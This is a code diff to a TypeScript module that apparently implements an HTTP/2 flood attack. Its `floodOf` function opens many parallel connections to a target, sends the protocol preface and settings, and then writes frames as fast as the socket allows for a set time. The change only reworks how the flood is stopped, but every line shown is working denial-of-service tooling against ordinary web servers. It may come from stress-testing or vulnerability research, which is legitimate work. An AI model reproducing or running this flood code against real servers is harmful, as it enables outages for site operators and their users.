@@ -27,11 +27,13 @@ export function callHeaders(id: number, isEnd = false): Buffer {
 /** `next` gives the i-th piece of a connection: i counts from 0. `ownSettings` are the client's. */
 export function floodOf(next: (i: number) => Buffer, ownSettings: Readonly<Record<number, number>> = {}): Attack {
   return async (target, seconds, signal) => {
-    const stop = new AbortController();
-    void untilOver(seconds, signal).then(() => stop.abort());
+    let isOver = false;
+    const over = untilOver(seconds, signal).then(() => {
+      isOver = true;
+    });
     const counts = { connections: 0, pieces: 0, cut_off: 0 };
     const one = async (): Promise<void> => {
-      while (!stop.signal.aborted) await floodOnce(target, next, settings(ownSettings), stop.signal, counts);
+      while (!isOver) await floodOnce(target, next, settings(ownSettings), over, counts);
     };
     await Promise.all(Array.from({ length: CONNECTIONS }, one));
     return counts;
@@ -42,7 +44,7 @@ async function floodOnce(
   target: Target,
   next: (i: number) => Buffer,
   first: Buffer,
-  signal: AbortSignal,
+  over: Promise<void>,
   counts: { connections: number; pieces: number; cut_off: number },
 ): Promise<void> {
   const socket = connect(target);
@@ -56,10 +58,11 @@ async function floodOnce(
   socket.resume();
   socket.write(Buffer.concat([PREFACE, first, frame(T.SETTINGS, F.ACK, 0)]));
   counts.connections += 1;
-  for (let i = 0; !signal.aborted && !socket.destroyed; i += FRAMES_AT_ONCE) {
+  void over.then(() => socket.destroy());
+  for (let i = 0; !socket.destroyed; i += FRAMES_AT_ONCE) {
     const pieces = Array.from({ length: FRAMES_AT_ONCE }, (_, j) => next(i + j));
     counts.pieces += FRAMES_AT_ONCE;
-    if (!socket.write(Buffer.concat(pieces))) await Promise.race([drained(socket), closed, aborted(signal)]);
+    if (!socket.write(Buffer.concat(pieces))) await Promise.race([drained(socket), closed]);
     else await turn();
   }
   socket.destroy();
@@ -68,8 +71,4 @@ async function floodOnce(
 
 function drained(socket: Socket): Promise<void> {
   return new Promise((resolve) => socket.once('drain', resolve));
-}
-
-function aborted(signal: AbortSignal): Promise<void> {
-  return new Promise((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }));
 }
